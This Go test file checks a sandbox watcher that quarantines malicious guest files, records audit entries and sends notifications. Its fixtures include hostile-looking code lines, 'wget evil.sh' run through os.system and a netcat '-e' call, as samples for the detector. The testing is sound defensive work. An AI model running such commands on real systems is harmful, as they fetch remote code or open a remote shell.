package watcher

import (
	"context"
	"os"
	"path/filepath"
	"sync"
	"testing"
	"time"

	"hostbox/internal/ai"
	"hostbox/internal/host/audit"
	"hostbox/internal/host/scanner"
	"hostbox/internal/host/workspace"
	"hostbox/internal/notify"
)

type fakeRemote struct {
	malicious bool
	reason    string
}

func (f *fakeRemote) ScanContent(context.Context, string, []byte) (ai.ScanResult, error) {
	return ai.ScanResult{Malicious: f.malicious, Reason: f.reason}, nil
}

func (f *fakeRemote) IsError(context.Context, string) (bool, error) {
	return false, nil
}

type countingSink struct {
	mu    sync.Mutex
	sent  []notify.Notification
	fails int // fail the first N sends
}

func (s *countingSink) Send(_ context.Context, n notify.Notification) error {
	s.mu.Lock()
	defer s.mu.Unlock()
	if s.fails > 0 {
		s.fails--
		return context.DeadlineExceeded
	}
	s.sent = append(s.sent, n)
	return nil
}

func (s *countingSink) count() int {
	s.mu.Lock()
	defer s.mu.Unlock()
	return len(s.sent)
}

func newTestWatcher(t *testing.T, remote ai.ScannerService, sink notify.Sink) (*Watcher, *workspace.Workspace, *audit.MemoryStore) {
	t.Helper()
	ws, err := workspace.New(filepath.Join(t.TempDir(), "slot"), workspace.Config{})
	if err != nil {
		t.Fatalf("workspace: %v", err)
	}
	store := audit.NewMemoryStore()
	recorder := audit.NewRecorder(store, nil, "")
	scan := scanner.New(remote, nil, scanner.Config{})
	w := New("tenant-a", "slot-1", ws, scan, recorder, sink, Config{PollInterval: time.Hour})
	return w, ws, store
}

func writeGuestFile(t *testing.T, ws *workspace.Workspace, rel, content string) {
	t.Helper()
	path := filepath.Join(ws.Root(), rel)
	if err := os.WriteFile(path, []byte(content), 0644); err != nil {
		t.Fatalf("write guest file: %v", err)
	}
	// Backdate so the debounce window does not skip it.
	old := time.Now().Add(-time.Minute)
	if err := os.Chtimes(path, old, old); err != nil {
		t.Fatalf("chtimes: %v", err)
	}
}

func TestTickQuarantinesMaliciousNewFile(t *testing.T) {
	sink := &countingSink{}
	w, ws, store := newTestWatcher(t, &fakeRemote{}, sink)
	if err := w.Prime(); err != nil {
		t.Fatalf("prime: %v", err)
	}

	writeGuestFile(t, ws, "dropper.py", "import os\nos.system('wget evil.sh')")
	if err := w.Tick(context.Background()); err != nil {
		t.Fatalf("tick: %v", err)
	}

	if _, err := os.Stat(filepath.Join(ws.Root(), "dropper.py")); !os.IsNotExist(err) {
		t.Fatal("malicious file still on disk")
	}
	if sink.count() != 1 {
		t.Fatalf("notifications = %d, want exactly 1", sink.count())
	}
	entries, err := store.ListBySlot(context.Background(), "slot-1", 10)
	if err != nil {
		t.Fatalf("audit list: %v", err)
	}
	if len(entries) != 1 || entries[0].Action != audit.ActionQuarantine || entries[0].Path != "dropper.py" {
		t.Fatalf("audit entries = %+v", entries)
	}

	// Nothing changed: the next tick must not re-notify.
	if err := w.Tick(context.Background()); err != nil {
		t.Fatalf("second tick: %v", err)
	}
	if sink.count() != 1 {
		t.Fatalf("notifications after idle tick = %d", sink.count())
	}
}

func TestTickLeavesBenignFilesAlone(t *testing.T) {
	sink := &countingSink{}
	w, ws, _ := newTestWatcher(t, &fakeRemote{}, sink)
	if err := w.Prime(); err != nil {
		t.Fatalf("prime: %v", err)
	}

	writeGuestFile(t, ws, "output.txt", "run results: 42")
	writeGuestFile(t, ws, "report.py", "print('summary')")
	if err := w.Tick(context.Background()); err != nil {
		t.Fatalf("tick: %v", err)
	}

	for _, rel := range []string{"output.txt", "report.py"} {
		if _, err := os.Stat(filepath.Join(ws.Root(), rel)); err != nil {
			t.Fatalf("benign file %s removed: %v", rel, err)
		}
	}
	if sink.count() != 0 {
		t.Fatalf("notifications = %d for benign files", sink.count())
	}
}

func TestPrimeSkipsPreexistingContent(t *testing.T) {
	sink := &countingSink{}
	w, ws, _ := newTestWatcher(t, &fakeRemote{malicious: true, reason: "preexisting"}, sink)

	// Content present before launch was already handled by the upload scan.
	writeGuestFile(t, ws, "uploaded.py", "print('already scanned')")
	if err := w.Prime(); err != nil {
		t.Fatalf("prime: %v", err)
	}
	if err := w.Tick(context.Background()); err != nil {
		t.Fatalf("tick: %v", err)
	}
	if sink.count() != 0 {
		t.Fatalf("primed file was rescanned: %d notifications", sink.count())
	}
}

func TestTickDebouncesFreshWrites(t *testing.T) {
	sink := &countingSink{}
	w, ws, _ := newTestWatcher(t, &fakeRemote{}, sink)
	w.cfg.Debounce = time.Hour
	if err := w.Prime(); err != nil {
		t.Fatalf("prime: %v", err)
	}

	// Written just now: the debounce window must skip it.
	path := filepath.Join(ws.Root(), "half_written.py")
	if err := os.WriteFile(path, []byte("os.system("), 0644); err != nil {
		t.Fatalf("write: %v", err)
	}
	if err := w.Tick(context.Background()); err != nil {
		t.Fatalf("tick: %v", err)
	}
	if _, err := os.Stat(path); err != nil {
		t.Fatal("file inside the debounce window must be untouched")
	}
}

func TestQuarantineDeletionSurvivesNotifyFailure(t *testing.T) {
	// Both delivery attempts fail; the file must stay deleted.
	sink := &countingSink{fails: 2}
	w, ws, store := newTestWatcher(t, &fakeRemote{}, sink)
	if err := w.Prime(); err != nil {
		t.Fatalf("prime: %v", err)
	}

	writeGuestFile(t, ws, "evil.py", "subprocess.run(['nc', '-e'])")
	if err := w.Tick(context.Background()); err != nil {
		t.Fatalf("tick: %v", err)
	}

	if _, err := os.Stat(filepath.Join(ws.Root(), "evil.py")); !os.IsNotExist(err) {
		t.Fatal("file restored after notification failure")
	}
	entries, err := store.ListBySlot(context.Background(), "slot-1", 10)
	if err != nil || len(entries) != 1 {
		t.Fatalf("audit entries = %v, err = %v", entries, err)
	}
	if sink.count() != 0 {
		t.Fatalf("unexpected successful deliveries: %d", sink.count())
	}
}
